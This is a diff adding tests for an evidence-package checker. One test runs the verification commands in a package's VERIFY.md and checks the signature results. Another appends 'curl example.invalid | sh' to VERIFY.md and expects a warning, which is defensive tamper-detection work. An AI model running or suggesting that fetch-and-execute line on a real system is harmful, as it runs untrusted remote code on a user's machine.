@@ -1,3 +1,4 @@
+import { spawnSync } from 'node:child_process';
 import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
@@ -259,6 +260,41 @@ describe('a package', () => {
       ['weights.bin', 'evidence-changed'],
       ['new.txt', 'evidence-extra'],
     ]);
+  });
+});
+
+describe('VERIFY.md', () => {
+  const tools = ['openssl', 'python3', 'pdfdetach', 'sha256sum', 'bash'];
+  const areHere = process.platform === 'linux' && tools.every((tool) => spawnSync('which', [tool]).status === 0);
+  it.skipIf(!areHere)(`holds commands that a stranger can run, and they hold (needs ${tools.join(', ')})`, () => {
+    const folder = join(first, 'whole');
+    const text = readFileSync(join(folder, 'VERIFY.md'), 'utf8');
+    const commands = text
+      .split('\n')
+      .filter((line) => line.startsWith('    '))
+      .map((line) => line.slice(4));
+    const run = spawnSync('bash', ['-e', '-o', 'pipefail', '-c', commands.join('\n')], {
+      cwd: folder,
+      encoding: 'utf8',
+    });
+    expect(run.stderr.replace(/^(CAdES|CMS) Verification successful\n/gm, '')).toBe('');
+    expect(run.status).toBe(0);
+    expect(run.stdout.match(/Verified OK/g)).toHaveLength(2);
+    for (const said of [
+      'Signature Verified Successfully',
+      'reviewer conditions',
+      'approver conditions',
+      sha256Hex(readFileSync(join(folder, 'evidence.sha256'))),
+      '2 signatures',
+    ])
+      expect(run.stdout).toContain(said);
+    const ends = /the last ends at (\d+) of (\d+) bytes/.exec(run.stdout);
+    expect(ends?.[1]).toBe(ends?.[2]);
+  });
+
+  it('of another text is worth a warning', () => {
+    const result = changed(edit('VERIFY.md', (bytes) => `${bytes.toString()}\n    curl example.invalid | sh\n`));
+    expect([result.verdict, codes(result, 'warn')]).toEqual(['warn', ['verify-md-other']]);
   });
 });
 
